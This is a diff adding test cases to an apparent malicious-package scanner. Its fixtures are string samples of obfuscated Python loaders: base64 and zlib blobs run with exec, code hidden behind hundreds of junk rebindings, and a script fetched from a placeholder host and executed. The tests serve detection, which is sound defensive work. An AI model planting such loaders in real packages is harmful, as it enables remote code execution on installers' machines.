@@ -102,6 +102,59 @@ def test_install_time_code_is_left_to_the_setup_commands_rule(engine: Engine) ->
     assert "remote_code_execution" in types
 
 
+#: Code kept in an attribute between two methods.
+ATTRIBUTE_HELD = (
+    "import base64\n\nclass Loader:\n"
+    "    def __init__(self, blob):\n        self.code = base64.b64decode(blob)\n\n"
+    "    def run(self):\n        exec(self.code, {})\n\n"
+    "Loader('cHJpbnQoMSk=').run()\n"
+)
+#: Code a helper returns, run where it is called.
+RETURNED = (
+    "import base64, zlib\n\ndef _rules():\n    try:\n"
+    "        return zlib.decompress(base64.b64decode(_BLOB))\n"
+    "    except Exception:\n        return b''\n\n"
+    "_BLOB = 'eJzLSM3JyVcozy/KSQEAGgQEXQ=='\nexec(_rules())\n"
+)
+#: A download unpacked from a tuple along with other values.
+UNPACKED = (
+    "import urllib.request\n\n"
+    "src, status = urllib.request.urlopen('https://rules.example.net/r.py').read(), 200\n"
+    "if status == 200:\n    exec(src)\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("code", "kind"),
+    [
+        (ATTRIBUTE_HELD, "decoded_code_execution"),
+        (RETURNED, "decoded_code_execution"),
+        (UNPACKED, "remote_code_execution"),
+    ],
+    ids=["attribute", "returned by a function", "unpacked from a tuple"],
+)
+def test_code_held_in_attributes_returns_and_tuples_is_followed(
+    engine: Engine, code: str, kind: str
+) -> None:
+    archive = wheel({"tidy_strings/__init__.py": code})
+    evidence = run_rule(engine, running_code_execution_rule, archive)
+    assert [item["type"] for item in evidence] == [kind]
+    assert engine.analyze(archive).flagged
+
+
+def test_a_payload_behind_dozens_of_junk_bindings_is_still_read(engine: Engine) -> None:
+    """The last bindings of a name are read as well as the first."""
+    junk = "".join(f"src = 'part{i}'\n" for i in range(200))
+    code = (
+        "import zlib as _z\n\ndef run():\n    exec(src)\n\n"
+        + junk
+        + "src = _z.decompress(blob)\nrun()\n"
+    )
+    archive = wheel({"tidy_strings/__init__.py": code})
+    evidence = run_rule(engine, running_code_execution_rule, archive)
+    assert [item["type"] for item in evidence] == ["decoded_code_execution"]
+
+
 def test_names_bound_thousands_of_times_are_read_within_bounds(engine: Engine) -> None:
     """Only the first bindings of each name are read; the decoding comes first here."""
     rebinds = "".join(f"src = part{i} + src\n" for i in range(500))
